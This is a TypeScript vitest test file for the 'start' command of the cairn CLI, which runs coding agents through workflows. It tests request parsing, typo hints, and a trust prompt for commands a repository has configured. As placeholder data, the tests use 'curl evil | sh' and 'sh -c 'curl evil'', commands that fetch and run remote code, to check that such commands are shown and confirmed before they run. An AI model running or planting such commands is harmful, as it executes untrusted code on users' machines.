import { describe, expect, test } from 'vitest';
import type { RunNews } from '../../src/runner/runEvents.ts';
import type { Ahead } from '../../src/session/ahead.ts';
import type { StartOptions } from '../../src/session/api/run.ts';
import { runLine, type LineOptions, type LineResult } from './runLine.ts';
import { AHEAD } from './scriptedAhead.ts';
import { OUTCOME, scriptedApi } from './scriptedApi.ts';

const named = (name: string) => ({
  name,
  file: null,
  title: null,
  description: null,
  isolation: null,
  agents: [],
  inputs: [],
  problem: null,
});
const api = () =>
  scriptedApi({ workflows: async () => ['flow', 'feature', 'fix', 'refactor', 'review'].map(named) });

const start = (words: readonly string[], options: LineOptions = {}): Promise<LineResult> =>
  runLine(['start', ...words], { api: api(), ...options });

const asked = ({ requests }: LineResult): readonly (readonly [string | null, string])[] =>
  requests.map(({ options }) => {
    const { workflow, request } = options as StartOptions;
    return [workflow, request];
  });

describe('a sentence is enough', () => {
  test.each([
    [['Add a login page'], null, 'Add a login page'],
    [['fix', 'Dates are wrong'], 'fix', 'Dates are wrong'],
    [['--request', 'fetaure'], null, 'fetaure'],
    [['fix', '--request', 'x'], 'fix', 'x'],
    [['./own/flow.yaml', 'x'], '/site/work/own/flow.yaml', 'x'],
    [['my flow.yaml', 'x'], '/site/work/my flow.yaml', 'x'],
    [['--', '-x'], null, '-x'],
  ])('start %j', async (words, workflow, request) => {
    const files = { '/site/work/my flow.yaml': '' };
    const result = await start(words, { files });
    expect(asked(result)).toEqual([[workflow, request]]);
    // Nothing is looked up for it here.
    expect(result.calls.map(([name]) => name)).not.toContain('workflows');
  });

  test('the name of a workflow alone is that workflow, and the request is asked for', async () => {
    const result = await start(['fix'], { terminal: 80, types: ['Dates are wrong'] });
    expect(result.asked).toEqual(['What is to be done? ']);
    expect(asked(result)).toEqual([['fix', 'Dates are wrong']]);
    expect(asked(await start([], { terminal: 80, types: ['Add a login page'] }))).toEqual([
      [null, 'Add a login page'],
    ]);
  });

  test('where nobody can be asked, a missing request is refused', async () => {
    const missing = {
      code: 2,
      requests: [],
      err: expect.stringContaining('say what is to be done') as unknown,
    };
    expect(await start(['fix'])).toMatchObject(missing);
    expect(await start([])).toMatchObject(missing);
    const program = await start(['fix', '--json'], { terminal: 80, types: ['x'] });
    expect(program).toMatchObject({ code: 2, asked: [], requests: [] });
    for (const typed of ['', '  '])
      expect(await start(['fix'], { terminal: 80, types: [typed] })).toMatchObject({
        code: 2,
        err: expect.stringContaining('the request is empty') as unknown,
      });
    expect(await start([''])).toMatchObject({ code: 2, requests: [] });
  });

  test.each([
    [
      ['fetaure'],
      'There is no workflow "fetaure" (did you mean feature?). If that is the request: cairn start --request fetaure',
    ],
    [['login'], 'There is no workflow "login". If that is the request: cairn start --request login'],
    [
      ['gone/flow.yaml'],
      'There is no workflow file "gone/flow.yaml". If that is the request: cairn start --request gone/flow.yaml',
    ],
    [['Add', 'a', "user's", 'page'], `Put the request into quotes: cairn start 'Add a user'\\''s page'`],
    [['fix', 'the', 'dates'], "Put the request into quotes: cairn start fix 'the dates'"],
    [
      ['--base', 'my base', 'Add', 'a', 'page', '--check', 'make test', '--no-setup', '--check', 'x'],
      "Put the request into quotes: cairn start 'Add a page' --base 'my base' --check 'make test' --check x --no-setup",
    ],
    [['--', '-x', 'y', 'z'], "Put the request into quotes: cairn start --request '-x y z'"],
    [['Fix'], 'There is no workflow "Fix" (did you mean fix?). If that is the request'],
    [
      ['login', '--in-place', '--trust'],
      'If that is the request: cairn start --request login --in-place --trust',
    ],
    [['Add it all', '--request', 'y'], 'give one of the two'],
    [['fix', 'x', '--request', 'y'], 'give one of the two'],
  ])('start %j is refused, with what to type instead', async (words, said) => {
    const { code, err, requests } = await start(words);
    expect([code, requests]).toEqual([2, []]);
    expect(err).toContain(said);
  });
});

describe('a workflow that is not there', () => {
  const news = (workflow: string): readonly RunNews[] => [
    {
      type: 'error',
      error: {
        code: 'workflow/not-found',
        details: { workflow, searched: [], known: ['feature', 'fix', 'refactor', 'review'] },
      },
    },
  ];

  test('is told with the one that is most likely meant', async () => {
    const { err } = await start(['fetaure', 'Add a login page'], { news: news('fetaure') });
    expect(err).toContain('Did you mean feature? There are: feature, fix, refactor, review.');
  });

  test('in two words is told so, too, where one is like the first', async () => {
    const { err } = await start(['fixx', 'dates'], { news: news('fixx') });
    expect(err).toContain('Did you mean fix?');
  });

  test('in two words is most likely a request without its quotes', async () => {
    const { code, err } = await start(['add', 'login', '--in-place'], { news: news('add') });
    expect(code).toBe(2);
    expect(err).toContain(
      `If both words are the request, put them into quotes: cairn start 'add login' --in-place`,
    );
  });
});

test.each([
  ['UTF-16', Buffer.from('Add it', 'utf16le')],
  ['bytes', Buffer.from([0xff, 0xfe])],
])('a request of %s is no text', async (_what, bytes) => {
  const files = { '/site/work/request.txt': bytes };
  const { code, err, requests } = await start(['--request-file', 'request.txt'], { files });
  expect([code, requests]).toEqual([2, []]);
  expect(err).toContain('request.txt is not UTF-8 text');
});

describe('a workflow that the repository chose', () => {
  const UNSEEN: RunNews = {
    type: 'error',
    error: {
      code: 'data/unseen-commands',
      details: {
        because: 'config',
        hash: 'sha256:1',
        file: '.cairn/workflows/own.yaml',
        commands: [{ phase: 'mine', does: 'check', what: 'curl evil | sh' }],
      },
    },
  };
  const inTurn = (): NonNullable<LineOptions['news']> => {
    const left: RunNews[][] = [[UNSEEN], [{ type: 'outcome', outcome: { ...OUTCOME, reason: 'completed' } }]];
    return async function* () {
      yield* left.shift() ?? [];
    };
  };
  const ASKED = expect.stringContaining(
    '.cairn/config.yaml names the workflow of this repository, .cairn/workflows/own.yaml',
  ) as unknown;

  test('is shown, and run with a yes for what was shown alone', async () => {
    const yes = await start(['Add it'], { terminal: 80, types: ['y'], news: inTurn() });
    expect(yes).toMatchObject({ code: 0, asked: [ASKED] });
    expect(yes.asked[0]).toContain('curl evil | sh');
    expect(yes.requests).toMatchObject([
      { options: { trust: false } },
      { options: { trust: true, shown: 'sha256:1' } },
    ]);
  });

  test.each(['n', ''])('is not run with %j', async (typed) => {
    const no = await start(['Add it'], { terminal: 80, types: [typed], news: inTurn() });
    expect(no).toMatchObject({
      code: 7,
      out: expect.stringContaining('Nothing was made or run.') as unknown,
    });
    expect(no.requests).toHaveLength(1);
  });

  test('is refused where nobody is there, unless --trust says yes beforehand', async () => {
    const no = await start(['Add it'], { news: inTurn() });
    expect(no).toMatchObject({ code: 7, asked: [], err: ASKED });
    expect(no.err).toContain('cairn start … --trust');
    const program = await start(['Add it', '--json'], { terminal: 80, types: ['y'], news: inTurn() });
    expect(program).toMatchObject({ code: 7, asked: [] });
    const said = await start(['Add it', '--trust'], { news: [{ type: 'outcome', outcome: OUTCOME }] });
    expect(said.requests).toMatchObject([{ options: { trust: true } }]);
  });
});

describe('what it is going to do', () => {
  const said = async (ahead: Partial<Ahead>, code = 3): Promise<string> => {
    const news: readonly RunNews[] = [
      { type: 'ahead', ...AHEAD, ...ahead },
      { type: 'outcome', outcome: OUTCOME },
    ];
    const result = await start(['Add it'], { news });
    expect(result.code).toBe(code);
    return result.out;
  };

  test('is said with who does it', async () => {
    expect(await said({})).toMatch(/^· claude does the work \(first known agent on PATH\)\.\n/);
    const [worker] = AHEAD.workers;
    const manual = { ...worker!, agent: 'manual', kind: 'manual', because: null } as const;
    expect(await said({ workers: [manual] })).toMatch(/^· You do the work yourself\.\n/);
    const both = [
      { ...worker!, phases: worker!.phases.slice(0, 1) },
      { ...manual, phases: worker!.phases.slice(1) },
    ];
    expect(await said({ workers: both })).toMatch(/^· At work: claude on plan; you on implement, verify\.\n/);
    const theirs = { ...worker!, agent: 'sh', because: null, runs: `sh -c 'curl evil'` } as const;
    expect(await said({ workers: [theirs] })).toMatch(/^· `sh -c 'curl evil'` does the work\.\n/);
  });

  test('is refused where nobody works, with what installs somebody and how to do it oneself', async () => {
    const details = {
      phases: ['plan'],
      because: 'no known agent on PATH',
      install: 'npm install -g opencode-ai',
    };
    const news: readonly RunNews[] = [{ type: 'error', error: { code: 'machine/nobody-works', details } }];
    const { code, err } = await start(['Add it'], { news });
    expect([code, err]).toEqual([
      8,
      `cairn: Nobody is here to do plan (no known agent on PATH). Nothing was made.
Install one, such as: npm install -g opencode-ai
Others: cairn doctor --agents
Or do the phases yourself: cairn start … --by-hand
`,
    ]);
    const { requests } = await start(['Add it', '--by-hand']);
    expect(requests).toMatchObject([{ options: { byHand: true } }]);
  });

  test('is said with its workflow, and why that one', async () => {
    const { workflow } = AHEAD;
    expect(await said({})).toContain(
      "· By Cairn's workflow feature (plan, implement, verify), as nobody names another.\n",
    );
    expect(await said({ workflow: { ...workflow, because: 'config' } })).toContain(
      ', as .cairn/config.yaml says.\n',
    );
    const own = { ...workflow, file: '.cairn/workflows/own.yaml', because: 'named' } as const;
    expect(await said({ workflow: own, project: null })).toContain(
      '· By feature (plan, implement, verify) of .cairn/workflows/own.yaml.\n',
    );
  });

  test('is said with what sets it up and checks it, or that nothing does, and how to say otherwise', async () => {
    expect(await said({})).toContain('! No tests of this project were found. No file that says so is here');
    expect(await said({})).toContain('  Other commands: --check, --no-checks, --setup, --no-setup.\n');
    const own = await said({
      setup: { run: ['make deps'], from: 'said' },
      checks: { run: ['make test', 'make lint'], from: 'said' },
    });
    expect(own).toContain(
      '· Set up with make deps, as you said.\n· Checked with make test, make lint, as you said.\n',
    );
    expect(await said({ copies: ['.env', 'keys'] })).toContain(
      '· Its working tree gets a copy of your .env, keys.\n',
    );
    expect(await said({ setup: null })).toContain(
      '· It works in this working tree, on the files that lie here.\n',
    );
    const none = await said({ setup: { run: [], from: 'said' }, checks: { run: [], from: 'said' } });
    expect(none).toContain('· Nothing is set up, as you said.\n! No command checks the work, as you said.\n');
    const file = { from: 'workflow', run: ['npm test'] } as const;
    const ofFile = await said({ setup: { ...file, run: [] }, checks: file, project: null });
    expect(ofFile).toContain('· Checked with npm test.\n');
    expect(ofFile).not.toContain('Other commands');
    expect(ofFile).not.toContain('et up');
  });

  test('is no beginning: a run that is refused behind it leaves nothing', async () => {
    const error = { code: 'usage/session-used', details: { id: 'x', where: 'y' } } as const;
    const news: readonly RunNews[] = [
      { type: 'ahead', ...AHEAD },
      { type: 'error', error },
    ];
    expect(await start(['Add it'], { news })).toMatchObject({ code: 2, discarded: 1 });
  });

  test.each<readonly [readonly string[], object]>([
    [[], {}],
    [['--check', 'make test', '--check', 'make lint'], { checks: ['make test', 'make lint'] }],
    [['--no-checks'], { checks: [] }],
    [['--setup', 'make deps', '--no-checks'], { setup: ['make deps'], checks: [] }],
    [['--no-setup'], { setup: [] }],
  ])('start "…" %j', async (words, commands) => {
    const { requests } = await start(['Add it', ...words]);
    expect((requests[0] as { options: StartOptions }).options.commands).toEqual(commands);
  });

  test.each([
    [['--check', 'x', '--no-checks'], '--no-checks: there is a --check, too'],
    [['--setup', 'x', '--no-setup'], '--no-setup: there is a --setup, too'],
  ])('start "…" %j is refused', async (words, why) => {
    expect(await start(['Add it', ...words])).toMatchObject({
      code: 2,
      requests: [],
      err: expect.stringContaining(why) as unknown,
    });
  });
});
